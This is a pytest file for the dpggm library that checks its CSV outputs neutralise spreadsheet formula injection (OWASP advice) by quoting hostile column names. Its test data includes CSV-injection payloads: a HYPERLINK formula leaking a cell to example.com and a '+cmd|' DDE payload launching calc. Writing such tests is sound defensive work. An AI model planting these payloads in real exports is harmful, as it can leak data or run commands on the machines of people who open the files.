"""No name becomes a formula in a CSV file the library writes (issue 29): a column named
``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)`` or ``-2+3`` is written with a ``'`` in
front (OWASP's advice for CSV injection) in ``edges.csv``, ``coef.csv``, a published
CSV's header and a recovery's ``precision.csv`` -- the same way in every file -- while the
numbers stay numbers; the report and the recovery read the names back as they were."""

from __future__ import annotations

import csv
import html
import json

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from dpggm.cli.main import app
from dpggm.io import FORMULA_TRIGGERS, csv_name, name_from_csv

runner = CliRunner()

HOSTILE = ['=HYPERLINK("http://example.com/?leak="&A1,"x")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)", "-2+3"]
#: The characters of the issue's acceptance item 4.
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _assert_no_formula(path, name_columns):
    """No header cell and no cell of a name column starts like a formula; every other
    cell is a number."""
    rows = _rows(path)
    header, body = rows[0], rows[1:]
    assert not [c for c in header if c.startswith(STARTS)], header
    index = [header.index(csv_name(c)) for c in name_columns]
    for row in body:
        for j, cell in enumerate(row):
            if j in index:
                assert not cell.startswith(STARTS), (path.name, cell)
            elif cell != "":
                float(cell)  # a number stays a number (negative ones included)
    return header, body


def _chain(n=3000, seed=0):
    rng = np.random.default_rng(seed)
    z = rng.normal(size=(n, 4))
    X = np.empty_like(z)
    X[:, 0] = z[:, 0]
    for j in range(1, 4):
        # One negative link, so that the edge list holds negative numbers (left as numbers).
        X[:, j] = (-0.7 if j == 2 else 0.7) * X[:, j - 1] + 0.7 * z[:, j]
    return np.clip(X / 3, -1, 1)


@pytest.fixture
def hostile_csv(tmp_path):
    path = tmp_path / "data.csv"
    pd.DataFrame(_chain(), columns=HOSTILE).to_csv(path, index=False)
    return path


def test_names_are_quoted_the_same_way_whatever_they_look_like():
    for name in HOSTILE + ["\tx", "\rx", "\nx", " =1", "-1", "'=x", "'s", "plain", ""]:
        written = csv_name(name)
        assert not written.lstrip(" ").startswith(tuple(FORMULA_TRIGGERS)) or written == name
        assert name_from_csv(written) == name
    assert csv_name("-2+3") == "'-2+3" and csv_name("-1") == "'-1"
    assert csv_name("plain") == "plain" and csv_name("x-1") == "x-1"


def test_graph_edges_csv_holds_no_formula_and_the_report_the_names(tmp_path, hostile_csv):
    out = tmp_path / "g"
    result = runner.invoke(app, ["graph", str(hostile_csv), "--rho", "50", "--bound", "box:1",
                                 "--center", "none", "--select", "threshold", "--out", str(out)])
    assert result.exit_code == 0, result.output
    header, body = _assert_no_formula(out / "edges.csv", ["source", "target"])
    assert len(body) >= 3
    written = {cell for row in body for cell in row[:2]}
    assert written <= {csv_name(n) for n in HOSTILE} and "'-2+3" in written
    assert any(cell.startswith("-") for row in body for cell in row[2:])  # a negative number
    report = (out / "report.html").read_text(encoding="utf-8")
    assert html.escape(HOSTILE[0]) in report
    assert html.escape("'" + HOSTILE[0]) not in report


def test_estimate_edges_csv_holds_no_formula(tmp_path, hostile_csv):
    out = tmp_path / "e"
    result = runner.invoke(app, ["estimate", str(hostile_csv), "--method", "glasso",
                                 "--alpha", "0.01", "--rho", "50", "--bound", "l2:2",
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    _, body = _assert_no_formula(out / "edges.csv", ["source", "target"])
    assert body


def test_coef_csv_holds_no_formula(tmp_path):
    from dpggm import ZCDP, PrivateCovariance, PrivateLinearRegression

    X = _chain()
    names = HOSTILE[:3] + ["\tTAB"]
    frame = pd.DataFrame(X, columns=names)
    y = X @ np.array([0.5, -0.4, 0.3, -0.2])
    inner = PrivateCovariance(budget=ZCDP(10.0), bounds="l2:4")
    PrivateLinearRegression(covariance_estimator=inner, fit_intercept=True).fit(
        frame, y).save(tmp_path / "r")
    header, body = _assert_no_formula(tmp_path / "r" / "coef.csv", ["term"])
    assert [row[0] for row in body] == ["(Intercept)", *map(csv_name, names)]
    assert any(row[1].startswith("-") for row in body)


def test_published_header_and_recovery_files_hold_no_formula(tmp_path, hostile_csv):
    noisy = tmp_path / "noisy.csv"
    result = runner.invoke(app, ["publish", str(hostile_csv), "--out", str(noisy),
                                 "--bound", "l2:2", "--mu", "5"])
    assert result.exit_code == 0, result.output
    header, _ = _assert_no_formula(noisy, [])
    assert header == [csv_name(n) for n in HOSTILE]
    assert json.loads(noisy.with_suffix(".json").read_text())["columns"] == HOSTILE
    result = runner.invoke(app, ["recover", str(noisy), "--alpha", "0.01",
                                 "--out", str(tmp_path / "rec")])
    assert result.exit_code == 0, result.output
    _assert_no_formula(tmp_path / "rec" / "precision.csv", ["variable"])
    _, body = _assert_no_formula(tmp_path / "rec" / "edges.csv", ["source", "target"])
    # The recovery read the published names back exactly (no quote doubled).
    assert {cell for row in body for cell in row[:2]} <= {csv_name(n) for n in HOSTILE}


def test_experiment_tables_quote_their_header(tmp_path):
    from dpggm.experiments._common import write_csv

    write_csv(pd.DataFrame({"=1+1": [-1.5, 2.0], "name": ["@x", "y"]}), tmp_path / "t.csv",
              name_columns=("name",))
    assert _rows(tmp_path / "t.csv") == [["'=1+1", "name"], ["-1.5", "'@x"], ["2.0", "y"]]
